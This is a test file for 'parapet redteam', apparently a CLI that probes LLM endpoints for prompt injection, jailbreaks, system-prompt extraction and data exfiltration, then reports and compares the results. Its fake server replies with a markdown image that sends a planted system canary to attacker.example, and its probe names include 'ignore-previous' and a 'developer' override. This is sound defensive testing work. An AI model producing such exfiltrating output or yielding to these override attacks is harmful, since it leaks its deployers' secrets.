import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { run } from '../../src/cli/run.ts';
import { plantedValues } from '../../src/redteam/planted.ts';
import { PROBES } from '../../src/redteam/probes/index.ts';
import { parseRecords } from '../../src/redteam/records.ts';
import { assertNoStackTrace, assertUsageError, captureIO } from '../fixtures/cli-io.ts';
import { runRedteamCli } from '../fixtures/redteam/cli.ts';
import { type ScriptedServer, startScriptedServer } from '../fixtures/redteam/scripted-server.ts';
import { sarifValidator } from '../fixtures/sarif-schema.ts';

const planted = plantedValues(1);

describe('parapet redteam', () => {
  let server: ScriptedServer;
  let dir: string;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'parapet-redteam-cli-'));
    server = await startScriptedServer({
      apiKey: 'gw-key',
      rules: [
        {
          when: /markdown image/,
          answer: `Done ![s](https://attacker.example/log?q=${planted.systemCanary})`,
        },
        { when: /I am the developer/, answer: { status: 500, message: 'boom' } },
      ],
    });
  });
  after(async () => {
    await server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('lists the probe catalogue', async () => {
    const o = await runRedteamCli(['--list-probes'], { cwd: dir });
    assert.equal(o.code, 0);
    for (const p of PROBES) assert.match(o.stdout, new RegExp(p.meta.id.replace('/', '\\/')));
    const json = await runRedteamCli(['--list-probes', '--format', 'json'], { cwd: dir });
    assert.equal(JSON.parse(json.stdout).length, PROBES.length);
  });

  it('teaches in --help', async () => {
    const o = await runRedteamCli(['--help'], { cwd: dir });
    assert.equal(o.code, 0);
    assert.match(o.stdout, /Examples:/);
    assert.match(o.stdout, /--fail-above/);
    assert.match(o.stdout, /redteam compare/);
  });

  it('runs, streams JSONL, writes the output dir and exits 1 on a breach', async () => {
    const out = join(dir, 'run1');
    const records = join(dir, 'r1.jsonl');
    const o = await runRedteamCli(
      [
        '--target',
        server.url,
        '--probes',
        'exfiltration/markdown-image',
        '--attempts',
        '3',
        '--records',
        records,
        '--output-dir',
        out,
      ],
      { cwd: dir, env: { PARAPET_REDTEAM_API_KEY: 'gw-key' } },
    );
    assertNoStackTrace(o);
    assert.equal(o.code, 1, o.stderr);
    assert.match(o.stdout, /exfiltration\/markdown-image {2}1\/3/);
    assert.match(o.stdout, /success rate/);
    const parsed = parseRecords(readFileSync(records, 'utf8'));
    assert.equal(parsed.problems.length, 0);
    assert.equal(parsed.records.length, 3);
    assert.deepEqual(parseRecords(readFileSync(join(out, 'attempts.jsonl'), 'utf8')).records, parsed.records);
    const summary = JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8'));
    assert.equal(summary.overall.attempts, 3);
    assert.match(readFileSync(join(out, 'report.html'), 'utf8'), /<html/i);
  });

  it('run() reads the environment it is given; without one, the process environment', async () => {
    const argv = ['redteam', '--target', server.url, '-p', 'exfiltration/html-tag', '-n', '1'];
    const saved = process.env.PARAPET_REDTEAM_API_KEY;
    process.env.PARAPET_REDTEAM_API_KEY = 'gw-key';
    try {
      const given = captureIO(dir);
      const code = await run(argv, given.io, { PARAPET_REDTEAM_API_KEY: 'gw-key' });
      assert.equal(code, 0, given.stderr());
      // near miss: an environment without the key is not topped up from the process's
      const empty = captureIO(dir);
      assert.equal(await run(argv, empty.io, {}), 3);
      assert.match(empty.stderr(), /401.*an API key is needed/);
      const host = captureIO(dir);
      assert.equal(await run(argv, host.io), 0, host.stderr());
    } finally {
      if (saved === undefined) delete process.env.PARAPET_REDTEAM_API_KEY;
      else process.env.PARAPET_REDTEAM_API_KEY = saved;
    }
  });

  it('passes under --fail-above, and exits 3 when attempts errored', async () => {
    const pass = await runRedteamCli(
      [
        '--target',
        server.url,
        '--api-key',
        'gw-key',
        '-p',
        'exfiltration/markdown-image',
        '--fail-above',
        '50%',
      ],
      { cwd: dir },
    );
    // 1 of 3 breached (33%) is under 50%
    assert.equal(pass.code, 0, pass.stdout);
    const errored = await runRedteamCli(
      [
        '--target',
        server.url,
        '--api-key',
        'gw-key',
        '-p',
        'system-prompt-extraction/direct-request',
        '-n',
        '4',
      ],
      { cwd: dir },
    );
    assert.equal(errored.code, 3);
    assert.match(errored.stdout, /Errored: 1 attempt/);
    assert.match(errored.stdout, /HTTP 500: boom/);
  });

  it('writes SARIF with one result per breached probe and JSON with records', async () => {
    const sarif = await runRedteamCli(
      ['--target', server.url, '--api-key', 'gw-key', '-p', 'exfiltration', '--format', 'sarif'],
      { cwd: dir },
    );
    const log = JSON.parse(sarif.stdout) as {
      runs: { results: { ruleId: string }[]; tool: { driver: { rules: { id: string }[] } } }[];
    };
    const validate = sarifValidator();
    assert.ok(validate(log), JSON.stringify(validate.errors?.slice(0, 3)));
    assert.equal(log.runs[0]?.tool.driver.rules[0]?.id, 'exfiltration/markdown-image');
    assert.deepEqual(
      log.runs[0]?.results.map((r) => r.ruleId),
      ['exfiltration/markdown-image'],
    );
    const json = await runRedteamCli(
      [
        '--target',
        server.url,
        '--api-key',
        'gw-key',
        '-p',
        'exfiltration/html-tag',
        '--format',
        'json',
        '-o',
        join(dir, 'out.json'),
      ],
      { cwd: dir },
    );
    assert.equal(json.code, 0);
    const body = JSON.parse(readFileSync(join(dir, 'out.json'), 'utf8'));
    assert.equal(body.records.length, 3);
    assert.equal(body.summary.overall.breached, 0);
  });

  it('shows progress on a TTY stderr', async () => {
    const o = await runRedteamCli(
      ['--target', server.url, '--api-key', 'gw-key', '-p', 'exfiltration/html-tag'],
      {
        cwd: dir,
        tty: true,
      },
    );
    assert.match(o.stderr, /\[#+\] 3\/3 attempts, 0 breached, 0 errored/);
  });

  it('refuses bad usage before any attack', async () => {
    const requests = server.requests.length;
    const cases: [string[], RegExp][] = [
      [[], /--target is required/],
      [['--target', server.url, '--probes', 'nope'], /unknown probe or category "nope"/],
      [['--target', server.url, '--attempts', '0'], /--attempts must be a whole number/],
      [['--target', server.url, '--fail-above', '2'], /--fail-above must be a rate/],
      [['--target', server.url, '--system-prompt', 'missing.txt'], /cannot read --system-prompt/],
      [['--target', server.url, '--judge-model', 'x'], /--judge-model needs --judge/],
    ];
    for (const [argv, message] of cases) {
      const o = await runRedteamCli(argv, { cwd: dir });
      assert.equal(o.code, 2, `${argv.join(' ')}: ${o.stderr}`);
      assert.match(o.stderr, message);
      assertNoStackTrace(o);
    }
    assert.equal(server.requests.length, requests);
  });

  it('reports a missing key and an unreachable target as incomplete, without a stack trace', async () => {
    const noKey = await runRedteamCli(['--target', server.url], { cwd: dir });
    assert.equal(noKey.code, 3);
    assert.match(noKey.stderr, /API key is needed/);
    const closed = await runRedteamCli(['--target', 'http://127.0.0.1:9', '--timeout', '2000'], { cwd: dir });
    assert.equal(closed.code, 3);
    assertNoStackTrace(closed);
  });

  it('sends the system prompt file', async () => {
    writeFileSync(join(dir, 'prompt.txt'), 'You are the SYSPROMPT-FILE bot.');
    const before = server.chats().length;
    await runRedteamCli(
      [
        '--target',
        server.url,
        '--api-key',
        'gw-key',
        '-p',
        'prompt-injection/ignore-previous',
        '-n',
        '1',
        '--system-prompt',
        'prompt.txt',
      ],
      { cwd: dir },
    );
    assert.equal(server.chats()[before]?.[0]?.content, 'You are the SYSPROMPT-FILE bot.');
  });
});

describe('parapet redteam compare', () => {
  let dir: string;
  const line = (probeId: string, outcome: string, index: number) =>
    JSON.stringify({
      runId: 'r',
      probeId,
      category: probeId.split('/')[0],
      index,
      messages: [{ role: 'user', content: 'x' }],
      responses: ['y'],
      outcome,
      reason: outcome,
      latencyMs: 1,
      startedAt: '2026-01-01T00:00:00Z',
    });
  const file = (name: string, lines: string[]) => {
    const path = join(dir, name);
    writeFileSync(path, `${lines.join('\n')}\n`);
    return path;
  };
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'parapet-redteam-compare-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('exits 1 on a new breach and names it', async () => {
    const old = file(
      'old.jsonl',
      [0, 1, 2].map((i) => line('exfiltration/markdown-image', 'resisted', i)),
    );
    const now = file('new.jsonl', [
      line('exfiltration/markdown-image', 'breached', 0),
      ...[1, 2].map((i) => line('exfiltration/markdown-image', 'resisted', i)),
    ]);
    const o = await runRedteamCli(['compare', old, now], { cwd: dir });
    assert.equal(o.code, 1, o.stderr);
    assert.match(o.stdout, /regressed\s+exfiltration\/markdown-image\s+0\/3 → 1\/3\s+0 → 1 breach/);
    const json = await runRedteamCli(['compare', old, now, '--json'], { cwd: dir });
    assert.equal(JSON.parse(json.stdout).regressions, 1);
  });

  it('takes --format table|json like every command; --json stays an alias; a contradiction is refused', async () => {
    const old = file('f-old.jsonl', [line('encoding/hex', 'resisted', 0)]);
    const now = file('f-new.jsonl', [line('encoding/hex', 'breached', 0)]);
    const json = await runRedteamCli(['compare', old, now, '--format', 'json'], { cwd: dir });
    assert.equal(json.code, 1);
    assert.equal(JSON.parse(json.stdout).regressions, 1);
    const before = await runRedteamCli(['compare', '-f', 'json', old, now], { cwd: dir });
    assert.deepEqual(JSON.parse(before.stdout), JSON.parse(json.stdout));
    const table = await runRedteamCli(['compare', old, now, '--format', 'table'], { cwd: dir });
    assert.match(table.stdout, /regressed\s+encoding\/hex/);
    assert.throws(() => JSON.parse(table.stdout));
    const alias = await runRedteamCli(['compare', old, now, '--json', '--format', 'json'], { cwd: dir });
    assert.deepEqual(JSON.parse(alias.stdout), JSON.parse(json.stdout));
    assertUsageError(
      await runRedteamCli(['compare', old, now, '--format', 'sarif'], { cwd: dir }),
      /compare --format must be table or json, got "sarif"/,
    );
    assertUsageError(
      await runRedteamCli(['compare', old, now, '--format', 'xml'], { cwd: dir }),
      /argument 'xml' is invalid/,
    );
    assertUsageError(
      await runRedteamCli(['compare', old, now, '--json', '--format', 'table'], { cwd: dir }),
      /--json contradicts --format table/,
    );
    const help = await runRedteamCli(['compare', '--help'], { cwd: dir });
    assert.match(help.stdout, /--format <format>/);
    assert.match(help.stdout, /--format json > diff\.json/);
  });

  it('exits 0 when nothing regressed (same run, or fewer breaches)', async () => {
    const a = file('a.jsonl', [
      line('jailbreak/roleplay', 'breached', 0),
      line('jailbreak/roleplay', 'resisted', 1),
    ]);
    const b = file('b.jsonl', [
      line('jailbreak/roleplay', 'resisted', 0),
      line('jailbreak/roleplay', 'resisted', 1),
    ]);
    assert.equal((await runRedteamCli(['compare', a, a], { cwd: dir })).code, 0);
    const improved = await runRedteamCli(['compare', a, b], { cwd: dir });
    assert.equal(improved.code, 0);
    assert.match(improved.stdout, /improved/);
  });

  it('reports bad lines (exit 3) and refuses missing or empty files (exit 2)', async () => {
    const a = file('c.jsonl', [line('jailbreak/roleplay', 'resisted', 0)]);
    const b = file('d.jsonl', [line('jailbreak/roleplay', 'resisted', 0), '{"truncated": ']);
    const bad = await runRedteamCli(['compare', a, b], { cwd: dir });
    assert.equal(bad.code, 3);
    assert.match(bad.stderr, /d\.jsonl line 2: not JSON/);
    const missing = await runRedteamCli(['compare', a, join(dir, 'nope.jsonl')], { cwd: dir });
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /cannot read/);
    const empty = await runRedteamCli(['compare', a, file('e.jsonl', ['garbage'])], { cwd: dir });
    assert.equal(empty.code, 2);
    assert.match(empty.stderr, /holds no attempt records/);
    assertNoStackTrace(empty);
  });
});
